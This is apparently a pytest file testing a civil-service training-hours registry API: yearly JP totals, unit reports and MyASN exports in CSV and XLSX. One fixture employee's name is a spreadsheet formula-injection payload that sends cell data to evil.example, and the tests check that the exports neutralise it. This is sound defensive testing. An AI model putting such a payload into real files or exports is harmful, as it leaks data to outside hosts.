"""Yearly JP, unit reports and MyASN exports through the API, from documents issued through it.

One unit (DPUPR) with a roster and documents of every kind the reports treat differently: a
letter whose sessions straddle New Year, a revoked document, a PPPK at the 24 JP ceiling, a
rostered employee with no document at all, and a name typed as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from litestar.testing import TestClient
from openpyxl import load_workbook

from api.app import create_app
from registry.usecases.issuing import Registry
from tests.api.conftest import bearer, written_state
from tests.conftest import Clock, Keys
from tests.support.drafts import PNS_NIP, PPPK_NIP, body

PROBLEM_JSON = "application/problem+json"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
HOSTILE_NIP = "198704202012122003"
NO_JABATAN_NIP = "199001012015031001"
DINKES_NIP = "197805122003121002"
STRANGER_NIP = "196912312000031001"  # has a document, in no roster


def roster_csv(*rows: tuple[str, ...]) -> dict[str, Any]:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["NIP", "Nama", "Status", "Jenis Jabatan", "Jabatan"])
    writer.writerows(rows)
    return {"file": ("pegawai.csv", buffer.getvalue().encode("utf-8"), "text/csv")}


@dataclass
class World:
    client: TestClient[Any]
    registry: Registry
    keys: Keys
    revoked_id: str

    @property
    def issuer(self) -> dict[str, str]:
        return bearer(self.keys.issuer.secret)

    def get(self, url: str, key: str = "issuer") -> Any:
        response = self.client.get(url, headers=bearer(getattr(self.keys, key).secret))
        assert response.status_code == 200, response.text
        return response


def issue(client: TestClient[Any], headers: dict[str, str], **changes: Any) -> dict[str, Any]:
    response = client.post("/api/v1/documents", json=body(**changes), headers=headers)
    assert response.status_code == 201, response.text
    answer: dict[str, Any] = response.json()
    return answer


def activity(path: str, start: str, end: str, jp: str | None = None, **more: Any) -> Any:
    return {
        "title": more.pop("title", f"Kegiatan {path}"),
        "path": path,
        "scope": "nasional",
        "start_date": start,
        "end_date": end,
        "jp": jp,
        "organizer": "BPSDM",
        **more,
    }


def person(nip: str, name: str) -> dict[str, str]:
    return {"nip": nip, "name": name, "unit": "Dinas PU"}


def build_world(client: TestClient[Any], registry: Registry, keys: Keys, clock: Clock) -> World:
    clock.current = datetime(2026, 6, 1, 3, 0, tzinfo=UTC)
    issuer = bearer(keys.issuer.secret)
    for unit in ({"code": "DPUPR", "name": "Dinas PUPR"}, {"code": "DINKES", "name": "Dinkes"}):
        assert client.post("/api/v1/units", json=unit, headers=issuer).status_code == 201
    imported = client.post(
        "/api/v1/units/DPUPR/employees",
        files=roster_csv(
            (PNS_NIP, "Dra. Siti Aminah, M.Si.", "PNS", "fungsional", "Analis Kepegawaian"),
            (HOSTILE_NIP, HOSTILE, "PNS", "pelaksana", "-Pengadministrasi"),
            (PPPK_NIP, "Rina Kartika", "PPPK", "pelaksana", "Operator"),
            (NO_JABATAN_NIP, "Andi Wijaya", "PNS", "", ""),
        ),
        headers=issuer,
    )
    assert imported.status_code == 201, imported.text
    dinkes = client.post(
        "/api/v1/units/DINKES/employees",
        files=roster_csv((DINKES_NIP, "Bambang", "PNS", "struktural", "Kepala Seksi")),
        headers=issuer,
    )
    assert dinkes.status_code == 201, dinkes.text

    siti = person(PNS_NIP, "Dra. Siti Aminah, M.Si.")
    # 2 days of seminar: 4 JP a day (tangsel-2022).
    issue(client, issuer, recipient=siti, activity=activity("seminar", "2026-03-02", "2026-03-03"))
    issue(client, issuer, type="sttp", recipient=siti,
          activity=activity("pelatihan_teknis", "2026-05-04", "2026-05-06", "20"))  # fmt: skip
    # A coaching letter with a session on each side of New Year: 2 JP in each year.
    issue(
        client,
        issuer,
        type="surat_keterangan",
        unit_code="DPUPR",
        recipient=siti,
        activity=activity(
            "coaching",
            "2025-12-31",
            "2026-01-01",
            sessions=[{"date": "2025-12-31"}, {"date": "2026-01-01"}],
        ),
        details={"coach": {"name": "Ir. Bambang Sutrisno, M.T."}},
    )
    revoked = issue(client, issuer, recipient=siti,
                    activity=activity("workshop", "2026-04-06", "2026-04-07"))  # fmt: skip
    response = client.post(
        f"/api/v1/documents/{revoked['id']}/revoke",
        json={"reason": "Salah nama kegiatan"},
        headers=issuer,
    )
    assert response.status_code == 200, response.text

    rina = {**person(PPPK_NIP, "Rina Kartika"), "employment": "pppk"}
    issue(client, issuer, type="sttp", recipient=rina,
          activity=activity("pelatihan_teknis", "2026-02-02", "2026-02-04", "20"))  # fmt: skip
    # Worth 10 JP, but only 4 are left under the PPPK's 24 JP a year.
    issue(client, issuer, type="sttp", recipient=rina,
          activity=activity("kursus", "2026-07-06", "2026-07-07", "10"))  # fmt: skip

    sosialisasi = activity("sosialisasi", "2026-08-03", "2026-08-03", title="-2+3 Sosialisasi")
    issue(client, issuer, recipient=person(HOSTILE_NIP, HOSTILE), activity=sosialisasi)
    issue(client, issuer, recipient=person(STRANGER_NIP, "Tamu"),
          activity=activity("seminar", "2026-09-01", "2026-09-01"))  # fmt: skip
    return World(client, registry, keys, revoked["id"])


@pytest.fixture
def world(client: TestClient[Any], registry: Registry, api_keys: Keys, clock: Clock) -> World:
    return build_world(client, registry, api_keys, clock)


# -- GET /api/v1/employees/{nip}/jp ----------------------------------------------------------------


def test_an_employees_year_counts_valid_documents_in_the_year_their_credits_ended(
    world: World,
) -> None:
    answer = world.get(f"/api/v1/employees/{PNS_NIP}/jp?year=2026").json()
    assert {k: answer[k] for k in ("nip", "name", "year", "total", "minimum", "met")} == {
        "nip": PNS_NIP,
        "name": "Dra. Siti Aminah, M.Si.",
        "year": 2026,
        "total": "30",
        "minimum": "20",
        "met": True,
    }
    # The revoked workshop credits nothing and is not listed; coaching counts its 1 January.
    assert answer["by_path"] == {"pelatihan_teknis": "20", "seminar": "8", "coaching": "2"}
    assert "ceiling" not in answer
    assert (answer["rostered"], answer["jabatan_type"], answer["unit_code"]) == (
        True,
        "fungsional",
        "DPUPR",
    )
    listed = [(d["path"], d["credited_jp"]) for d in answer["documents"]]
    assert listed == [("coaching", "2"), ("seminar", "8"), ("pelatihan_teknis", "20")]
    assert world.revoked_id not in {d["id"] for d in answer["documents"]}
    assert all(d["verify_url"].startswith("https://verifikasi.bpsdm.example/v/")
               for d in answer["documents"])  # fmt: skip
    # Fungsional: no functional training (0 of 15), teknis 20 JP (15), a seminar (10).
    ip_asn = answer["ip_asn"]
    assert (ip_asn["points"], ip_asn["max_points"], ip_asn["reason"]) == ("25", "40", None)
    assert [(p["column"], p["points"]) for p in ip_asn["parts"]] == [
        ("fungsional", "0"),
        ("teknis", "15"),
        ("lainnya", "10"),
    ]

    previous = world.get(f"/api/v1/employees/{PNS_NIP}/jp?year=2025").json()
    assert (previous["total"], previous["by_path"], previous["met"]) == (
        "2",
        {"coaching": "2"},
        False,
    )


def test_the_year_defaults_to_the_current_one_in_the_configured_timezone(
    world: World, clock: Clock
) -> None:
    # 17:30 UTC on 31 December is already 1 January in Jakarta.
    clock.current = datetime(2025, 12, 31, 17, 30, tzinfo=UTC)
    assert world.get(f"/api/v1/employees/{PNS_NIP}/jp").json()["year"] == 2026
    clock.current = datetime(2025, 12, 31, 16, 30, tzinfo=UTC)
    answer = world.get(f"/api/v1/employees/{PNS_NIP}/jp").json()
    assert (answer["year"], answer["total"]) == (2025, "2")


def test_a_pppk_under_tangsel_is_shown_the_24_jp_ceiling(world: World) -> None:
    answer = world.get(f"/api/v1/employees/{PPPK_NIP}/jp?year=2026").json()
    assert (answer["employment"], answer["total"], answer["ceiling"], answer["met"]) == (
        "pppk",
        "24",
        "24",
        True,
    )
    assert answer["by_path"] == {"pelatihan_teknis": "20", "kursus": "4"}
    assert [(d["jp"], d["credited_jp"]) for d in answer["documents"]] == [
        ("20", "20"),
        ("10", "4"),
    ]
    # Pelaksana: teknis 20 JP this year (22.5); a kursus is "lainnya" (17.5).
    assert answer["ip_asn"]["points"] == "40"


def test_an_unknown_jabatan_type_gives_no_ip_asn_points(world: World) -> None:
    answer = world.get(f"/api/v1/employees/{NO_JABATAN_NIP}/jp?year=2026").json()
    assert (answer["total"], answer["met"], answer["documents"]) == ("0", False, [])
    assert (answer["ip_asn"]["points"], answer["ip_asn"]["parts"]) == (None, [])
    assert "belum tercatat" in answer["ip_asn"]["reason"]


def test_issuers_and_auditors_read_a_nip_no_roster_lists_from_its_documents(
    world: World,
) -> None:
    for key in ("issuer", "auditor"):
        answer = world.get(f"/api/v1/employees/{STRANGER_NIP}/jp?year=2026", key).json()
        assert (answer["name"], answer["rostered"], answer["total"]) == ("Tamu", False, "4")
        assert answer["ip_asn"]["points"] is None
    nobody = world.client.get(
        "/api/v1/employees/197001011995031003/jp", headers=bearer(world.keys.auditor.secret)
    )
    assert nobody.status_code == 404
    assert nobody.headers["content-type"].startswith(PROBLEM_JSON)


def test_a_requester_reads_only_employees_rostered_in_its_unit(world: World) -> None:
    own = world.get(f"/api/v1/employees/{PNS_NIP}/jp?year=2026", "requester").json()
    assert own["total"] == "30"
    for key, nip in (
        ("requester", DINKES_NIP),
        ("requester", STRANGER_NIP),
        ("other_requester", PNS_NIP),
    ):
        for route in ("jp", "myasn"):
            response = world.client.get(
                f"/api/v1/employees/{nip}/{route}", headers=bearer(getattr(world.keys, key).secret)
            )
            assert response.status_code == 404, response.text
            assert "tidak terdaftar" in response.json()["detail"]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("year=dua-ribu", "year"),
        ("year=1999", "year"),
        ("year=2101", "year"),
        ("format=pdf", "format"),
    ],
)
def test_a_bad_year_or_format_is_refused_in_indonesian(
    world: World, query: str, field: str
) -> None:
    before = written_state(world.registry)
    urls = (f"/api/v1/reports/jp?unit=DPUPR&{query}", f"/api/v1/employees/{PNS_NIP}/myasn?{query}")
    for url in urls:
        response = world.client.get(url, headers=world.issuer)
        assert response.status_code == 400, response.text
        assert response.headers["content-type"].startswith(PROBLEM_JSON)
        problem = response.json()
        assert problem["detail"].startswith("Isian permintaan tidak sesuai format")
        assert [error["field"] for error in problem["errors"]] == [field]
    assert written_state(world.registry) == before


def test_a_bad_nip_or_unit_is_422(world: World) -> None:
    nip = world.client.get("/api/v1/employees/12345/jp", headers=world.issuer)
    assert (nip.status_code, nip.json()["field"]) == (422, "nip")
    unit = world.client.get("/api/v1/reports/jp?unit=dp%20upr", headers=world.issuer)
    assert (unit.status_code, unit.json()["field"]) == (422, "unit")
    unknown = world.client.get("/api/v1/reports/jp?unit=DISDIK", headers=world.issuer)
    assert unknown.status_code == 404


# -- GET /api/v1/reports/jp ------------------------------------------------------------------------


def test_the_unit_report_lists_every_rostered_employee_with_zero_jp_too(world: World) -> None:
    report = world.get("/api/v1/reports/jp?unit=DPUPR&year=2026").json()
    assert (report["unit"], report["unit_name"], report["year"]) == ("DPUPR", "Dinas PUPR", 2026)
    assert (report["employees"], report["met"], report["not_met"]) == (4, 2, 2)
    rows = [(r["name"], r["total"], r["met"], r["ip_asn"]["points"]) for r in report["rows"]]
    # Short of 20 JP first, then by name ("=" sorts before letters).
    assert rows == [
        (HOSTILE, "4", False, "17.5"),
        ("Andi Wijaya", "0", False, None),
        ("Dra. Siti Aminah, M.Si.", "30", True, "25"),
        ("Rina Kartika", "24", True, "40"),
    ]
    assert report["rows"][3]["ceiling"] == "24"
    assert "ceiling" not in report["rows"][2]
    assert STRANGER_NIP not in {r["nip"] for r in report["rows"]}


def test_each_role_gets_the_unit_reports_it_may(world: World) -> None:
    own = world.get("/api/v1/reports/jp?year=2026", "requester").json()
    assert (own["unit"], own["employees"]) == ("DPUPR", 4)
    dinkes = world.get("/api/v1/reports/jp?year=2026", "other_requester").json()
    assert [r["nip"] for r in dinkes["rows"]] == [DINKES_NIP]
    refused = world.client.get(
        "/api/v1/reports/jp?unit=DPUPR", headers=bearer(world.keys.other_requester.secret)
    )
    assert refused.status_code == 403
    assert refused.headers["content-type"].startswith(PROBLEM_JSON)
    everything = world.get("/api/v1/reports/jp?year=2026", "auditor").json()
    assert everything["unit"] is None
    assert [r["unit_code"] for r in everything["rows"]] == ["DINKES"] + ["DPUPR"] * 4


def test_the_unit_report_as_csv_is_utf8_with_bom_and_defuses_formulas(world: World) -> None:
    response = world.get("/api/v1/reports/jp?unit=DPUPR&year=2026&format=csv")
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="jp-DPUPR-2026.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header, *body_rows = rows
    assert header[:3] == ["No", "NIP", "Nama"]
    by_nip = {row[1]: dict(zip(header, row, strict=True)) for row in body_rows}
    assert len(by_nip) == 4
    hostile = by_nip[HOSTILE_NIP]
    assert (hostile["Nama"], hostile["Jabatan"]) == ("'" + HOSTILE, "'-Pengadministrasi")
    siti = by_nip[PNS_NIP]
    assert (siti["Total JP"], siti["Memenuhi"]) == ("30", "Ya")
    assert siti["Poin IP ASN Kompetensi"] == "25"
    assert by_nip[PPPK_NIP]["Batas JP PPPK"] == "24"
    assert by_nip[NO_JABATAN_NIP]["Memenuhi"] == "Tidak"


def test_the_unit_report_as_xlsx_reads_back_with_numbers_and_no_formula(world: World) -> None:
    response = world.get("/api/v1/reports/jp?unit=DPUPR&year=2026&format=xlsx")
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="jp-DPUPR-2026.xlsx"' in response.headers["content-disposition"]
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["JP 2026"]
    header = [cell.value for cell in sheet[1]]
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    hostile = rows[HOSTILE_NIP][header.index("Nama")]
    assert (hostile.value, hostile.data_type) == ("'" + HOSTILE, "s")
    total = rows[PNS_NIP][header.index("Total JP")]
    assert (total.value, total.data_type) == (30, "n")
    assert rows[HOSTILE_NIP][header.index("Poin IP ASN Kompetensi")].value == 17.5
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# -- GET /api/v1/employees/{nip}/myasn -------------------------------------------------------------


def test_myasn_rows_carry_the_form_fields_and_the_siasn_type(world: World) -> None:
    answer = world.get(f"/api/v1/employees/{PNS_NIP}/myasn?year=2026").json()
    assert answer["columns"][:9] == [
        "Jenis Diklat", "Nama Diklat", "Institusi Penyelenggara", "Nomor Sertifikat",
        "Tahun Diklat", "Tanggal Mulai", "Tanggal Selesai", "Durasi (Jam)", "Rumpun Diklat",
    ]  # fmt: skip
    rows = answer["rows"]
    # The coaching letter ended on 1 January 2026: it is a 2026 row; the revoked one is absent.
    assert [(r["jenis_diklat"], r["jenis_diklat_id"]) for r in rows] == [
        ("Coaching", 14),
        ("Seminar", 9),
        ("Diklat Teknis", 3),
    ]
    seminar = rows[1]
    assert (seminar["tanggal_mulai"], seminar["tanggal_selesai"], seminar["tahun_diklat"]) == (
        "02-03-2026",
        "03-03-2026",
        2026,
    )
    assert (seminar["durasi_jam"], seminar["institusi_penyelenggara"]) == ("8", "BPSDM")
    assert seminar["nomor_sertifikat"].endswith("/SERT/BPSDM/2026")
    assert seminar["pdf_url"] is None  # this registry issues DOCX only
    assert seminar["verify_url"].startswith("https://verifikasi.bpsdm.example/v/")
    assert world.get(f"/api/v1/employees/{PNS_NIP}/myasn?year=2025").json()["rows"] == []


def test_myasn_as_csv_for_the_hostile_name(world: World) -> None:
    response = world.get(f"/api/v1/employees/{HOSTILE_NIP}/myasn?year=2026&format=csv")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="myasn-{HOSTILE_NIP}-2026.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert header[:2] == ["Jenis Diklat", "Nama Diklat"]
    assert header[9:] == ["jenisDiklatId", "Tautan PDF", "Tautan Verifikasi"]
    record = dict(zip(header, row, strict=True))
    assert record["Nama Diklat"] == "'-2+3 Sosialisasi"
    assert (record["Jenis Diklat"], record["jenisDiklatId"]) == ("Sosialisasi", "7")
    assert (record["Tanggal Mulai"], record["Durasi (Jam)"]) == ("03-08-2026", "4")
    assert record["Rumpun Diklat"] == ""
    refused = world.client.get(
        f"/api/v1/employees/{HOSTILE_NIP}/myasn?format=xlsx", headers=world.issuer
    )
    assert refused.status_code == 400


# -- with real PDFs ----------------------------------------------------------------------------


@pytest.fixture
def pdf_client(pdf_registry: Registry) -> Iterator[TestClient[Any]]:
    with TestClient(create_app(registry=pdf_registry)) as test_client:
        yield test_client


def test_myasn_links_the_pdf_an_integrator_fetches(
    pdf_client: TestClient[Any], pdf_registry: Registry, api_keys: Keys, clock: Clock
) -> None:
    clock.current = datetime(2026, 6, 1, 3, 0, tzinfo=UTC)
    issuer = bearer(api_keys.issuer.secret)
    issued = issue(pdf_client, issuer, recipient=person(PNS_NIP, "Dra. Siti Aminah, M.Si."),
                   activity=activity("seminar", "2026-03-02", "2026-03-02"))  # fmt: skip
    response = pdf_client.get(f"/api/v1/employees/{PNS_NIP}/myasn?year=2026", headers=issuer)
    assert response.status_code == 200, response.text
    (row,) = response.json()["rows"]
    assert row["pdf_url"] == (
        f"https://verifikasi.bpsdm.example/api/v1/documents/{issued['id']}/pdf"
    )
    path = row["pdf_url"].removeprefix("https://verifikasi.bpsdm.example")
    pdf = pdf_client.get(path, headers=issuer)
    assert pdf.status_code == 200
    assert pdf.content.startswith(b"%PDF-")
